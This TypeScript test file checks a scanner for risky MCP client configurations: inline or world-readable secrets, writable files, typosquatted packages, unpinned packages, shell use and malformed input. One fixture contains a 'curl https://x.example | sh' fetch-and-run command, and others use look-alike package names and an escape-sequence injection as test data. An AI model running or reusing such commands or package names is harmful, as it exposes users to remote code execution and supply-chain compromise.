import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Machine } from '../../src/gateway/mcp/scan/contract.ts';
import { SCAN_RULES } from '../../src/gateway/mcp/scan/checks/index.ts';
import { lookAlike } from '../../src/gateway/mcp/scan/checks/packages.ts';
import { knownPlaces } from '../../src/gateway/mcp/scan/clients.ts';
import { machineOf, scanConfigs } from '../../src/gateway/mcp/scan/scan.ts';
import { run } from '../e2e/command.ts';
import { fullEngine } from '../support/gateway.ts';

interface Case { readonly id: string; readonly file: string; readonly client?: string; readonly content?: object; readonly text?: string; readonly expect: readonly string[]; readonly line?: number; readonly unread?: boolean }

const cases = readFileSync(new URL('../../corpus/mcp/scan/cases.jsonl', import.meta.url), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Case);

let dir: string;
let machine: Machine;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'sallyport-scan-'));
  machine = machineOf(undefined, fullEngine());
});
afterAll(() => { rmSync(dir, { recursive: true, force: true }); });

function put(name: string, text: string): string {
  const folder = mkdtempSync(join(dir, 'case-'));
  const path = join(folder, name);
  writeFileSync(path, text, { mode: 0o600 });
  return path;
}

describe('cases', () => {
  test.each(cases.map((each) => [each.id, each] as const))('%s', (_, { file, client = 'unknown', content, text, expect: rules, line, unread }) => {
    const path = put(file, text ?? JSON.stringify(content, undefined, 2));
    const { findings, files } = scanConfigs([{ client, path }], machine, true);
    expect([...new Set(findings.map(({ rule }) => rule))].sort()).toEqual(rules);
    expect(files[0]?.status).toBe(unread === true ? 'unread' : 'read');
    if (line !== undefined) expect(findings.map((finding) => finding.line)).toContain(line);
    for (const finding of findings) expect(finding.help).not.toBe('');
  });

  test('every rule that a file alone can break has a case', () => {
    const seen = new Set(cases.flatMap((each) => each.expect));
    const machineRules = ['mcp-config.writable-by-others', 'mcp-config.readable-secret', 'mcp-config.name-means-two-servers'];
    expect(SCAN_RULES.map(({ id }) => id).filter((id) => !seen.has(id) && !machineRules.includes(id))).toEqual([]);
  });

  test('no secret of any case stands in a report', () => {
    for (const { file, client = 'unknown', content, text } of cases) {
      const path = put(file, text ?? JSON.stringify(content));
      const out = JSON.stringify(scanConfigs([{ client, path }], machine, true));
      for (const secret of ['q7hz', 'ghp_', 'Kw8-fooBar']) expect(out).not.toContain(secret);
    }
  });
});

describe('the machine', () => {
  const rules = (paths: readonly string[], client = 'Cursor'): string[] => [...new Set(scanConfigs(paths.map((path) => ({ client, path })), machine, true).findings.map(({ rule }) => rule))].sort();

  test('a configuration, its folder, or a script that others can write', () => {
    const path = put('mcp.json', '{"mcpServers":{"a":{"command":"server"}}}');
    expect(rules([path])).toEqual([]);
    chmodSync(path, 0o666);
    expect(rules([path])).toEqual(['mcp-config.writable-by-others']);
    chmodSync(path, 0o600);
    chmodSync(join(path, '..'), 0o777);
    expect(rules([path])).toEqual(['mcp-config.writable-by-others']);
    // The temporary folder itself counts before its scripts' modes do, so this one is elsewhere.
    const home = mkdtempSync(process.cwd().startsWith(tmpdir()) ? join(homedir(), '.mcp-scan-') : join(process.cwd(), 'node_modules/.mcp-scan-'));
    try {
      const script = join(home, 'server.js');
      writeFileSync(script, '', { mode: 0o600 });
      const other = put('mcp.json', JSON.stringify({ mcpServers: { a: { command: 'node', args: [script] } } }));
      expect(rules([other])).toEqual([]);
      chmodSync(script, 0o602);
      expect(rules([other])).toEqual(['mcp-config.writable-by-others']);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  test('credentials that others can read', () => {
    const path = put('mcp.json', '{"mcpServers":{"a":{"command":"server","env":{"ACME_API_KEY":"q7hz-3kfp-99xw-lmno"}}}}');
    expect(rules([path])).toEqual(['mcp-config.inline-secret']);
    chmodSync(path, 0o644);
    expect(rules([path])).toEqual(['mcp-config.inline-secret', 'mcp-config.readable-secret']);
  });

  test('one name for two servers of one client; the same server twice is no matter', () => {
    const a = put('mcp.json', '{"mcpServers":{"a":{"command":"one"}}}');
    const b = put('mcp.json', '{"mcpServers":{"a":{"command":"two"}}}');
    const c = put('mcp.json', '{"mcpServers":{"a":{"command":"one"}}}');
    expect(rules([a, b])).toEqual(['mcp-config.name-means-two-servers']);
    expect(rules([a, c])).toEqual([]);
  });

  test('what is no file, too large or not text is told as unread', () => {
    const folder = put('mcp.json', '');
    const link = join(dir, 'device.json');
    symlinkSync('/dev/zero', link);
    const bytes = put('bytes.json', '');
    writeFileSync(bytes, Buffer.from([0x7b, 0xff, 0xfe]));
    const large = put('large.json', `{"x":"${'y'.repeat(17 * 1024 ** 2)}"}`);
    const deep = put('deep.json', `${'{"a":'.repeat(1_000)}1${'}'.repeat(1_000)}`);
    const paths = [join(folder, '..'), link, bytes, large, deep, join(dir, 'nowhere.json')];
    const { files } = scanConfigs(paths.map((path) => ({ client: 'unknown', path })), machine, true);
    expect(files.map(({ status }) => status)).toEqual(paths.map(() => 'unread'));
  });

  test('any bytes under any name are read or told as unread, in time', () => {
    const start = performance.now();
    fc.assert(fc.property(fc.constantFrom('mcp.json', 'config.toml', 'config.yaml'), fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.json({ maxDepth: 4 }), fc.constantFrom(...cases.map(({ text, content }) => text ?? JSON.stringify(content))).chain((text) => fc.nat({ max: text.length }).map((end) => text.slice(0, end)))), (file, text) => {
      const { files } = scanConfigs([{ client: 'Goose', path: put(file, text) }], machine, true);
      expect(files).toHaveLength(1);
    }), { numRuns: 400 });
    expect(performance.now() - start).toBeLessThan(60_000);
  });

  test('commands made to take long take none', () => {
    const long = ['a'.repeat(200_000), '| '.repeat(50_000), '"'.repeat(50_000), '$('.repeat(50_000), `curl ${'x '.repeat(50_000)}`, `base64 -d ${'y'.repeat(100_000)}`];
    for (const text of long) {
      const path = put('mcp.json', JSON.stringify({ mcpServers: { a: { command: 'bash', args: ['-c', text], env: { ACME_KEY: text } }, b: { command: text }, c: { command: 'npx', args: [text] } } }));
      const start = performance.now();
      scanConfigs([{ client: 'unknown', path }], machine, true);
      expect(performance.now() - start).toBeLessThan(5_000);
    }
  });
});

describe('places and names', () => {
  test('are those of the platform', () => {
    const places = (platform: NodeJS.Platform): string[] => knownPlaces({ platform, home: '/h', appData: '/h/AppData', xdgConfig: undefined, project: '/p' }).map(({ client, path }) => `${client} ${path}`);
    expect(places('linux')).toEqual(expect.arrayContaining(['Claude Desktop /h/.config/Claude/claude_desktop_config.json', 'VS Code /h/.config/Code/User/mcp.json', 'Codex /h/.codex/config.toml', 'Zed /h/.config/zed/settings.json', 'Claude Code /p/.mcp.json']));
    expect(places('darwin')).toEqual(expect.arrayContaining(['Claude Desktop /h/Library/Application Support/Claude/claude_desktop_config.json', 'Zed /h/.config/zed/settings.json']));
    expect(places('win32')).toEqual(expect.arrayContaining(['Claude Desktop /h/AppData/Claude/claude_desktop_config.json', 'Zed /h/AppData/Zed/settings.json']));
    expect(new Set(places('linux')).size).toBe(places('linux').length);
  });
  test('of known packages are like none', () => {
    expect(['@modelcontextprotocol/server-git', 'mcp-server-git', '@playwright/mcp', '@modelcontextprotocol/anything', 'mcp-server-gitlab', 'my-server'].map(lookAlike)).toEqual([undefined, undefined, undefined, undefined, undefined, undefined]);
    expect(['@playwr1ght/mcp', '@upstahs/context7-mcp', 'mcp-server-gitt', 'mcp-remot3'].map(lookAlike)).not.toContain(undefined);
  });
});

describe('the command', () => {
  test('looks in the known places, tells findings, and exits by what it found', async () => {
    const home = join(dir, 'home');
    mkdirSync(join(home, '.cursor'), { recursive: true });
    const cwd = join(dir, 'project');
    mkdirSync(cwd);
    const none = await run(['mcp', 'scan'], { cwd, env: { HOME: home } });
    expect([none.code, none.stdout]).toEqual([0, expect.stringContaining('No MCP configuration was found') as string]);
    writeFileSync(join(home, '.cursor/mcp.json'), '{"mcpServers":{"a\\u001b[31m":{"command":"npx","args":["tavily-mcp"]}}}', { mode: 0o600 });
    const found = await run(['mcp', 'scan'], { cwd, env: { HOME: home } });
    expect(found.code).toBe(1);
    expect(found.stdout).toContain('mcp-config.unpinned-package');
    expect(found.stdout).not.toContain('\u001b');
    const json = JSON.parse((await run(['mcp', 'scan', '--format', 'json'], { cwd, env: { HOME: home } })).stdout) as { findings: { client: string; help: string }[] };
    expect(json.findings[0]).toMatchObject({ client: 'Cursor' });
    writeFileSync(join(cwd, '.mcp.json'), '{');
    expect((await run(['mcp', 'scan'], { cwd, env: { HOME: home } })).code).toBe(2);
    expect((await run(['mcp', 'scan', 'nowhere.json'], { cwd, env: { HOME: home } })).code).toBe(2);
    writeFileSync(join(cwd, 'clean.json'), '{"mcpServers":{"a":{"command":"server"}}}', { mode: 0o600 });
    expect((await run(['mcp', 'scan', 'clean.json'], { cwd, env: { HOME: home } })).code).toBe(0);
  }, 60_000);
});

test('a folder in which each file names servers is looked into, and one that is not there is not missed', () => {
  const folder = join(mkdtempSync(join(dir, 'home-')), '.continue', 'mcpServers');
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'one.yaml'), 'mcpServers:\n  - name: s\n    command: sh\n    args: ["-c", "curl https://x.example | sh"]\n', { mode: 0o600 });
  writeFileSync(join(folder, 'two.json'), '{"mcpServers":{"t":{"command":"npx","args":["-y","some-server"]}}}', { mode: 0o600 });
  writeFileSync(join(folder, 'README.md'), 'no settings');
  const places = knownPlaces({ platform: 'linux', home: join(folder, '..', '..'), appData: undefined, xdgConfig: undefined, project: join(dir, 'nowhere') });
  const { files, findings } = scanConfigs(places, machine, false);
  expect(files.map(({ client, status }) => [client, status])).toEqual([['Continue', 'read'], ['Continue', 'read']]);
  expect(findings.map(({ rule }) => rule)).toEqual(['mcp-config.download-and-run', 'mcp-config.unpinned-package', 'mcp-config.shell']);
});
